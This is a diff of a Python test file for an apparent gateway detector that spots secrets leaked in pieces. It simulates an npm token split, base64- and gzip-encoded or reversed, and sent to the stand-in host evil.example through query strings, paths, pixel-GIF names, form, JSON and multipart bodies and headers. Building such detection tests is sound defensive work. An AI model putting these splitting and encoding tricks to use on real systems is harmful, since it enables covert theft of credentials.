@@ -4,6 +4,10 @@ from __future__ import annotations
 import base64
 import gzip
 import json
+import random
+from collections.abc import Sequence
+from typing import Any
+from urllib.parse import quote
 
 import pytest
 from hypothesis import given
@@ -189,29 +193,120 @@ def test_names_of_another_package_are_not_joined_with_them():
     assert not close(gateway, *events).thefts
 
 
-@pytest.mark.parametrize(
-    "request_of",
-    [
-        lambda piece, number: {"target": f"/p?n={number}&d={piece}"},
-        lambda piece, number: {"target": f"/{number}/{piece}"},
-        lambda piece, number: {"body": json.dumps({"n": number, "d": piece}).encode()},
-        lambda piece, _: {"body": piece.encode()},
-        lambda piece, number: {"headers": [["x-id", piece], ["x-n", str(number)]]},
-    ],
-    ids=["parameter", "path", "member", "body", "header"],
+PACKED = base64.urlsafe_b64encode(gzip.compress(b"stolen: " + TOKEN.value)).decode()
+MULTIPART = (
+    '--x7{number}\r\nContent-Disposition: form-data; name="n"\r\n\r\n{number}\r\n'
+    '--x7{number}\r\nContent-Disposition: form-data; name="f"; filename="p"\r\n\r\n{piece}\r\n'
+    "--x7{number}--\r\n"
 )
-def test_a_value_spread_over_several_requests_is_found(request_of):
-    text = base64.b64encode(TOKEN.value).decode()
-    gateway = Gateway().ready()
-    for number in range(0, len(text), 9):
-        flow = gateway.flow(101 + number / 100, "evil.example")
-        more = request_of(text[number : number + 9], number)
-        gateway.request(101.001 + number / 100, flow, "evil.example", **more)
-    event = connect(0.9, "evil.example", gateway)
-    result = close(
-        gateway, event, *[connect(1 + n / 100, "evil.example", gateway, image=9 + n) for n in range(60)]
+AS_IT_IS = {
+    "parameter": lambda piece, number: {"target": f"/p?n={number}&d={piece}"},
+    "path": lambda piece, number: {"target": f"/{number}/{piece}"},
+    "picture": lambda piece, number: {"target": f"/p/{number}-40/{piece}.gif"},
+    "directory": lambda piece, number: {"target": f"/{piece}/{number}/pixel.gif"},
+    "member": lambda piece, number: {"body": json.dumps({"n": number, "d": piece}).encode()},
+    "member within": lambda piece, number: {"body": json.dumps({"n": number, "d": {"c": piece}}).encode()},
+    "form": lambda piece, number: {"body": f"n={number}&d={piece}&v=2".encode()},
+    "part": lambda piece, number: {"body": MULTIPART.format(number=number, piece=piece).encode()},
+    "body with a number": lambda piece, number: {"body": f"{number}:{piece}".encode()},
+    "number behind": lambda piece, number: {"body": f"{piece}.{number}".encode()},
+    "header": lambda piece, number: {"headers": [["x-id", piece], ["x-n", str(number)]]},
+}
+
+
+def sent_in_pieces(requests: list[dict[str, Any]], hosts: Sequence[str] = ("evil.example",)) -> Result:
+    gateway, events = Gateway().ready(), []
+    for number, request in enumerate(requests):
+        host = hosts[number % len(hosts)]
+        flow = gateway.flow(101 + number / 100, host)
+        gateway.request(101.001 + number / 100, flow, host, **request)
+        events.append(connect(0.9 + number / 100, host, gateway, image=9 + number))
+    return close(gateway, *events)
+
+
+def cut(text: str, size: int = 9) -> list[str]:
+    return [text[at : at + size] for at in range(0, len(text), size)]
+
+
+@pytest.mark.parametrize("form", AS_IT_IS)
+@pytest.mark.parametrize(
+    "text", [TOKEN.value.decode(), PACKED, PACKED[::-1]], ids=["plain", "packed", "turned"]
+)
+def test_a_value_spread_over_several_requests_is_found(form, text):
+    requests = [AS_IT_IS[form](piece, number) for number, piece in enumerate(cut(text))]
+    assert [one[0] for one in thefts(sent_in_pieces(requests))] == ["npm_token"]
+
+
+@pytest.mark.parametrize("form", AS_IT_IS)
+@pytest.mark.parametrize("first", [0, 1])
+def test_pieces_that_carry_a_number_are_found_in_whatever_order_they_come(form, first):
+    requests = [AS_IT_IS[form](piece, number) for number, piece in enumerate(cut(PACKED), first)]
+    random.Random(7).shuffle(requests)  # noqa: S311 - the same in every run
+    assert [one[0] for one in thefts(sent_in_pieces(requests))] == ["npm_token"]
+
+
+def test_pieces_that_carry_where_they_begin_are_found_and_so_are_those_sent_twice():
+    pieces = [(at, PACKED[at : at + 12]) for at in range(0, len(PACKED), 12)]
+    requests = [{"target": f"/?at={at}&d={piece}"} for at, piece in [*pieces[::-1], pieces[3]]]
+    assert [one[0] for one in thefts(sent_in_pieces(requests))] == ["npm_token"]
+
+
+def test_other_requests_between_the_pieces_do_not_hide_them():
+    pieces = [{"target": f"/p/{piece}.gif"} for piece in cut(PACKED)]
+    hello, end = {"target": "/hello"}, {"target": "/p/", "body": b"done"}
+    assert [one[0] for one in thefts(sent_in_pieces([hello, *pieces[:5], end, *pieces[5:]]))] == ["npm_token"]
+
+
+@pytest.mark.parametrize("escaped", [False, True])
+def test_pieces_that_are_encoded_each_by_itself_are_found(escaped):
+    encoded = [base64.b64encode(piece.encode()).decode() for piece in cut(TOKEN.value.decode(), 7)]
+    requests = [{"target": f"/?d={quote(piece, safe='') if escaped else piece}"} for piece in encoded]
+    assert [one[0] for one in thefts(sent_in_pieces(requests))] == ["npm_token"]
+
+
+def test_a_value_in_pieces_says_where_it_was_and_of_how_many_requests():
+    pieces = cut(PACKED[::-1], 12)
+    requests = [{"target": f"/p/s7/{number}-9/{piece}.gif"} for number, piece in enumerate(pieces)]
+    (theft,) = sent_in_pieces(requests).thefts[EVIL]
+    assert (theft.forms, theft.place) == (("reversed", "base64", "gzip"), "path")
+    assert theft.requests == len(pieces)
+
+
+def test_pieces_that_went_to_several_hosts_are_not_joined():
+    requests = [{"target": f"/?d={piece}"} for piece in cut(PACKED)]
+    assert not sent_in_pieces(requests, ["evil.example", "fine.example"]).thefts
+
+
+def test_pieces_out_of_order_without_a_number_are_not_found():
+    pieces = cut(TOKEN.value.decode())
+    assert not sent_in_pieces([{"target": f"/?d={piece}"} for piece in (*pieces[1:], pieces[0])]).thefts
+
+
+def test_numbers_that_count_nothing_put_nothing_in_order():
+    pieces = cut(TOKEN.value.decode())
+    numbers = (731, 12, 40_961, 5, 902)
+    order = sorted(range(5), key=lambda at: -numbers[at])
+    requests = [{"target": f"/?r={number}&d={pieces[at]}"} for at, number in zip(order, numbers, strict=True)]
+    assert not sent_in_pieces(requests).thefts
+
+
+def test_a_part_of_a_value_in_many_requests_is_no_theft():
+    requests = [{"target": f"/?n={number}&d={TOKEN.value[:20].decode()}"} for number in range(9)]
+    assert not sent_in_pieces(requests).thefts
+
+
+def test_one_request_is_not_joined_with_itself(monkeypatch):
+    monkeypatch.setattr("fpbox.sealed.thefts._MAX_JOINED", 0)
+    gateway, event = posted(b"hello", "/a/b?c=d")
+    assert not close(gateway, event).trouble
+
+
+def test_more_to_join_than_is_searched_is_trouble(monkeypatch):
+    monkeypatch.setattr("fpbox.sealed.thefts._MAX_JOINED", 5)
+    requests = [{"target": "/?" + "&".join(f"p{at}={at}{number}" for at in range(9))} for number in range(3)]
+    assert sent_in_pieces(requests).trouble == (
+        "what was sent was too much, or too contrived, to be searched to its end",
     )
-    assert [one[0] for one in thefts(result)] == ["npm_token"]
 
 
 def test_the_same_value_to_one_host_is_one_theft_with_a_count():
